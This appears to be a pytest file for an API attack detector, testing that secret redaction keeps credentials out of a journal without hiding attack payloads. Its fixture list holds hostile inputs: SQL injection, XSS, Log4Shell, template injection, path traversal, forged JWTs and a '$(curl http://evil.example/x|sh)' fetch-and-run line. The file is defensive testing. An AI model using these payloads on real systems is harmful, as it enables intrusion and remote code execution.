"""Through the door no secret reaches the journal, and no attack is lost with the secrets."""

import base64
import json
from urllib.parse import quote

import pytest
from tests.unit.pipeline.door.door_fakes import make_door

from apisentinel.detectors.payload import FIRM, PayloadDetector
from apisentinel.kernels.hashing import HashKey
from apisentinel.parsers.json_requests import parse_requests
from apisentinel.pipeline.door.redaction import door_redactor
from apisentinel.pipeline.door.settings import DoorSettings
from apisentinel.records.codec import decode_batch

KEY = HashKey(5, 6)
ATTACKS = [
    "' OR 1=1--",
    "1' UNION SELECT password FROM users--",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "; cat /etc/passwd",
    "../../../../etc/passwd",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}{{config.__class__.__init__.__globals__}}",
    "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA",
    "$(curl http://evil.example/x|sh)",
]
PLACES = {
    "query": lambda s: {"url": "/a?token=" + quote(s)},
    "form": lambda s: {"url": "/a", "request_body": "user=a&password=" + quote(s)},
    "json": lambda s: {"url": "/a", "request_body": json.dumps({"password": s})},
    "cookie": lambda s: {"url": "/a", "headers": {"Cookie": "sid=" + quote(s)}},
    "api key": lambda s: {"url": "/a", "headers": {"X-Api-Key": s}},
    "bearer": lambda s: {"url": "/a", "headers": {"Authorization": "Bearer " + s}},
}


def batch_of(request):
    return parse_requests(json.dumps({"method": "POST"} | request).encode()).batch


def firm(batch):
    detector = PayloadDetector()
    found = detector.inspect(batch, detector.screen(batch))
    return {finding.attack_type for row in found for finding in row if finding.raw_llr >= FIRM}


@pytest.mark.parametrize("place", PLACES)
@pytest.mark.parametrize("attack", ATTACKS)
def test_a_firm_attack_in_the_place_of_a_secret_is_still_found(place, attack):
    request = PLACES[place](attack)
    before = firm(batch_of(request))
    batch = batch_of(request)
    door_redactor(DoorSettings(), KEY).apply(batch)
    assert firm(batch) >= before


@pytest.mark.parametrize("place", PLACES)
@pytest.mark.parametrize(
    "secret", ["P@ss w0rd'x!", 'tom\'s "cat" <3', "C0rrect;h0rse", "a/b+c==", "50%&more#"]
)
def test_odd_secrets_are_no_attacks(place, secret):
    if place in {"api key", "bearer"} and "\n" in secret:
        return
    batch = batch_of(PLACES[place](secret))
    assert door_redactor(DoorSettings(), KEY).apply(batch) == 1
    for form in (secret, quote(secret), json.dumps(secret)[1:-1]):
        for name in ("query", "request_body", "headers"):
            assert form.encode() not in (batch.text(name, 0) or b"")


def test_nothing_in_the_journal_holds_the_secret():
    settings = DoorSettings()
    door = make_door(redactor=door_redactor(settings, KEY))
    token = base64.b64encode(b"ann:hunter2hunter2").decode()
    body = json.dumps(
        {
            "method": "POST", "url": "/login?api_key=abcdef0123456789",
            "headers": {"Authorization": f"Basic {token}", "Cookie": "sid=0123456789abcdef"},
            "request_body": json.dumps({"password": "hunter2hunter2"}),
        }
    ).encode()  # fmt: skip
    assert door.submit_requests(body, source="http", idempotency="k").accepted == 1
    entry = door.journal.entries[0]
    for secret in (b"hunter2", token.encode(), b"abcdef0123456789", b"0123456789abcdef"):
        assert secret not in entry.body + entry.answer
    assert decode_batch(entry.body).text("path", 0) == b"/login"
    assert door.counters.totals()["redacted"] == 1


def test_redaction_can_be_switched_off_and_ids_hashed():
    assert door_redactor(DoorSettings(redact=False), KEY) is None
    batch = batch_of({"url": "/a", "user_id": "ann"})
    door_redactor(DoorSettings(hash_ids=True), KEY).apply(batch)
    assert batch.text("user_id", 0).startswith(b"hash-")


def test_forged_tokens_stay_and_others_go():
    def jwt(**head):
        parts = ({"alg": "RS256"} | head, {"sub": "1", "exp": 1_793_000_000})
        coded = (base64.urlsafe_b64encode(json.dumps(part).encode()) for part in parts)
        return b".".join((*(part.rstrip(b"=") for part in coded), b"c2lnbmF0dXJl")).decode()

    for head, stays in (({}, False), ({"alg": "none"}, True), ({"kid": "../../dev/null"}, True)):
        batch = batch_of({"url": "/a", "headers": {"Authorization": "Bearer " + jwt(**head)}})
        door_redactor(DoorSettings(), KEY).apply(batch)
        assert (jwt(**head).encode() in batch.text("headers", 0)) is stays
